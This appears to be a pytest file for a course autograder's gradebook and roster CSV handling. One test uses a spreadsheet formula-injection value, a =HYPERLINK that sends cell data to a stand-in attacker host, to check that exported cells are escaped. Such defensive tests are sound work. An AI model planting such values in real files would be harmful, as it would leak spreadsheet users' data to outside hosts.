"""grader/batch/gradebook.py: the roster and the gradebook CSV."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from grader.batch import gradebook as book
from grader.results.report import FAILED, PASSED, SKIPPED, Report
from tests.grader_helpers import fake_report


def test_gradebook_max_is_the_runs_and_a_grader_error_adds_no_column() -> None:
    alice = fake_report({"1.1": (PASSED, 2, ""), "3.2": (FAILED, 1, "no")})
    bob = fake_report({"1.1": (FAILED, 2, "train.py crashed"), "3.2": (SKIPPED, 1, "")})
    carol = Report.failure("/x/carol", "credit", "the grader was stopped after 1800 s")
    header, rows = book.gradebook_rows({"bob": bob, "alice": alice, "carol": carol}, [1, 3])
    assert header == ["student_id", "folder", "1 train", "3 fastapi", "total", "max", "status"]
    assert rows == [
        ["alice", "alice", "2", "0", "2", "3", "graded"],
        ["bob", "bob", "0", "0", "0", "3", "graded"],
        ["carol", "carol", "0", "0", "0", "3", "grader error"],
    ]


def test_gradebook_roster_bom_escaping_and_permissions(tmp_path: Path) -> None:
    roster_csv = tmp_path / "roster.csv"
    roster_csv.write_text(
        "\ufefffolder,student_id,email\nhéctor,s-001,hector@example.org\nabsent,s-002,a@b.c\n",
        encoding="utf-8",
    )
    roster = book.Roster.read(roster_csv)
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    reports = {"héctor": fake_report({"1.1": (PASSED, 2, "")}), evil: fake_report({})}
    old = os.umask(0o022)
    try:
        path = book.write_gradebook(tmp_path, reports, [1], roster)
    finally:
        os.umask(old)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["student_id", "folder", "email", "1 train", "total", "max", "status"]
    by_folder = {row[1]: row for row in rows[1:]}
    assert by_folder["héctor"][:3] == ["s-001", "héctor", "hector@example.org"]
    assert by_folder["absent"][-1] == "no submission"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert by_folder["'" + evil][-1] == "graded (not in the roster)"
    assert stat.S_IMODE(path.stat().st_mode) == 0o644, "the instructor's group reads it"
    (tmp_path / "bad.csv").write_text("name,email\n")
    with pytest.raises(ValueError, match="folder and student_id"):
        book.Roster.read(tmp_path / "bad.csv")


def test_roster_rows_that_are_malformed_or_repeated_are_reported(tmp_path: Path) -> None:
    """Every bad row named with its line, nothing silently cut or dropped."""
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "folder,student_id,name\n"
        "alice,s-1,Alice\n"
        "bob,s-2,Smith, Bob\n"  # an unquoted comma: one cell more than the header
        ",s-3,No Folder\n"
        "alice,s-4,Alice again\n"
        "carol,s-1,Carol\n"  # student_id again
        "dan,,Dan\n"
        ",,\n"  # blank: not a row
        '"eve, the second",s-5,"Eve, Jr."\n'  # quoted commas are fine
    )
    with pytest.raises(ValueError) as problem:
        book.Roster.read(roster)
    text = str(problem.value)
    assert "5 roster row(s) to fix" in text, text
    for said in (
        "line 3 has more than 3 cells",
        "line 4: no folder",
        "line 5: folder 'alice' again (line 2)",
        "line 6: student_id 's-1' again",
        "line 7: no student_id",
    ):
        assert said in text, (said, text)
    roster.write_text('folder,student_id\nalice,s-1\n"eve, the second",s-5\n,,\n')
    assert sorted(book.Roster.read(roster).rows) == ["alice", "eve, the second"]
